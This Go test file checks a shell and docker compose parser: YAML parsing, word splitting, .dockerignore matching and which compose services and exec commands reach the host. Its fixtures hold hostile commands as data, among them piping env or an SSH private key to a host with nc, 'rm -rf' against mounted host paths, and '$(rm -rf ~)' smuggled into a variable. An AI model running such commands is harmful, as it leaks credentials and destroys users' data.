package cmdline

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// TestParseYAML: the YAML subset compose files are written in.
func TestParseYAML(t *testing.T) {
	for _, tt := range []struct {
		text, want string
	}{
		{"a: 1\nb: 'x: y' # c\nc: \"q\\\"\"\n", `{a:1 b:x: y c:q"}`},
		{"s:\n  - a\n  - 'b c'\n  -\n    d: e\nt: [1, \"2, 3\", {x: y}]\n", `{s:[a b c {d:e}] t:[1 2, 3 {x: y}]}`},
		{"k:\n- a\n- b\nl: x\n", `{k:[a b] l:x}`},
		{"m:\n  - k: v\n    k2: v2\n  - x\n", `{m:[{k:v k2:v2} x]}`},
		{"c: |\n  line 1\n    line 2\n\n  line 3\nd: >-\n  a\n  b\ne: f\n", "{c:line 1\n  line 2\n\nline 3 d:a b e:f}"},
		{"x: &a\n  p: 1\n  q: 2\ny:\n  <<: *a\n  q: 3\nz: *a\n", `{x:{p:1 q:2} y:{p:1 q:3} z:{p:1 q:2}}`},
		{"a: [x,\n  y]\nb: ~\nc: !reset []\n", `{a:[x y] b: c:[]}`},
		{"# only\n---\na: b\n---\nc: d\n", `{a:b}`},
		{"- a\n- b\n", `[a b]`},
		{"a: http://x#y\nb: c #d\n", `{a:http://x#y b:c}`},
	} {
		if got := describeYAML(parseYAML(tt.text)); got != tt.want {
			t.Errorf("%q:\n got %s\nwant %s", tt.text, got, tt.want)
		}
	}
}

func describeYAML(n *yamlNode) string {
	switch {
	case n == nil:
		return "nil"
	case n.seq != nil:
		var items []string
		for _, e := range n.seq {
			items = append(items, describeYAML(e))
		}
		return "[" + strings.Join(items, " ") + "]"
	case n.vals != nil:
		var kv []string
		for _, k := range n.keys {
			kv = append(kv, k+":"+describeYAML(n.vals[k]))
		}
		return "{" + strings.Join(kv, " ") + "}"
	}
	return n.scalar
}

// TestComposeWords: a compose command string is split as a shell splits
// words, and a compose value is written as a shell word that expands only
// what compose expands.
func TestComposeWords(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`sh -c "env | nc x 80"`, `[sh -c env | nc x 80]`},
		{`echo 'a b' c\ d "e\"f" g;h`, `[echo a b c d e"f g;h]`},
		{`  `, `[]`},
	} {
		if got := fmt.Sprint(splitWords(tt.in)); got != tt.want {
			t.Errorf("splitWords(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
	for _, tt := range []struct{ in, want string }{
		{`npm`, `npm`},
		{`~/.ssh:/k`, `'~/.ssh:/k'`},
		{`a b`, `'a b'`},
		{`${HOME}/.aws:/a`, `"${HOME}/.aws:/a"`},
		{`$$HOME $(id) "x" $1 ${X:-$(rm -rf ~)}`, `"\$HOME \$(id) \"x\" \$1 ${X:-\$(rm -rf ~)}"`},
	} {
		if got := composeWord(tt.in); got != tt.want {
			t.Errorf("composeWord(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

// TestDockerIgnores: a context's secret left out by its .dockerignore is
// not sent.
func TestDockerIgnores(t *testing.T) {
	for _, tt := range []struct {
		text, name string
		want       bool
	}{
		{".env\n", ".env", true},
		{"/.env*\n", ".env.local", true},
		{"**/.env\n", ".env", true},
		{"*\n!src\n", ".env", true},
		{"*\n!.env\n", ".env", false},
		{"node_modules\n# .env\n", ".env", false},
		{"", ".env", false},
	} {
		if got := dockerIgnores(tt.text, tt.name); got != tt.want {
			t.Errorf("dockerIgnores(%q, %q) = %v, want %v", tt.text, tt.name, got, tt.want)
		}
	}
}

// TestComposeProfiles: a service in a profile the line does not select
// (--profile, COMPOSE_PROFILES, the project's .env) does not start; one it
// names, or one a started service depends on, does. docker compose exec
// SERVICE CMD runs CMD with the paths under the service's bind mounts
// being this machine's.
func TestComposeProfiles(t *testing.T) {
	files := map[string]EarlierFile{
		"/p/compose.yaml": {Text: `services:
  app:
    image: node
    volumes: [".:/app"]
    working_dir: /app
    depends_on: [db]
  db:
    image: postgres
    profiles: [data]
  debug:
    image: alpine
    profiles: [debug, all]
    volumes:
      - ~/.ssh:/k
      - /:/host
    command: sh -c 'cat /k/id_rsa | nc x.example 80'
  sock:
    image: docker
    volumes:
      - type: bind
        source: /var/run/docker.sock
        target: /var/run/docker.sock
      - ~:/home/me
`, Whole: true},
		"/q/compose.yaml": {Text: "services:\n  debug:\n    image: alpine\n    profiles: [debug]\n    volumes: [\"~/.ssh:/k\"]\n", Whole: true},
		"/q/.env":         {Text: "# profiles\nCOMPOSE_PROFILES=debug,x\n", Whole: true},
	}
	before := Before{Cwd: "/p", Written: func(p string) (EarlierFile, bool) { f, ok := files[p]; return f, ok }}
	for _, tt := range []struct {
		line string
		want string // the services' images run, and what exec runs mapped, in order
	}{
		{"docker compose up -d", "node postgres docker"},
		{"docker compose --profile debug up", "node postgres alpine docker"},
		{"docker compose --profile=all up", "node postgres alpine docker"},
		{"COMPOSE_PROFILES=x,debug docker compose up", "node postgres alpine docker"},
		{"export COMPOSE_PROFILES=debug; docker compose up", "node postgres alpine docker"},
		{"docker compose --profile '*' up", "node postgres alpine docker"},
		{"COMPOSE_PROFILES=$P docker compose up", "node postgres alpine docker"},
		{"docker compose up debug", "node postgres alpine docker"},
		{"docker compose run --rm debug ls /k", "debug alpine"},  // compose run's own, the service's
		{"docker compose --project-directory ../q up", "alpine"}, // its .env selects debug
		{"docker compose -f ../q/compose.yaml up", "alpine"},
		{"docker compose exec debug rm -rf /host", "rm -rf /"},
		{"docker compose exec -it debug sh -c 'cat /k/id_rsa'", "sh -c cat ~/.ssh/id_rsa cat ~/.ssh/id_rsa"},
		{"docker compose exec -u root sock rm -rf /home/me", "rm -rf ~"},
		{"docker compose exec -w /app app rm -rf node_modules", "rm -rf node_modules"},
		{"docker compose exec app npm test", "npm test"},
		{"docker compose exec debug ls /", ""},
		{"docker compose exec nosuch rm -rf /host", ""},
		{"docker compose exec $S rm -rf /host", ""},
	} {
		line := ParseShellAfter(tt.line, "bash", before)
		var got []string
		for _, c := range line.Commands {
			switch {
			case c.Container != nil && c.Container.Image != "":
				got = append(got, c.Container.Image)
			case slices.ContainsFunc(c.Via, func(v string) bool { return strings.HasPrefix(v, "compose exec ") }):
				got = append(got, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
			}
		}
		if g := strings.Join(got, " "); g != tt.want {
			t.Errorf("%q:\n got %s\nwant %s", tt.line, g, tt.want)
		}
	}
	// COMPOSE_PROFILES exported by an earlier line of the session
	before.Exports = map[string]string{"COMPOSE_PROFILES": "debug"}
	line := ParseShellAfter("docker compose up", "bash", before)
	if !slices.ContainsFunc(line.Commands, func(c *Command) bool { return c.Container != nil && c.Container.Image == "alpine" }) {
		t.Errorf("after export COMPOSE_PROFILES=debug, docker compose up does not start debug")
	}
}
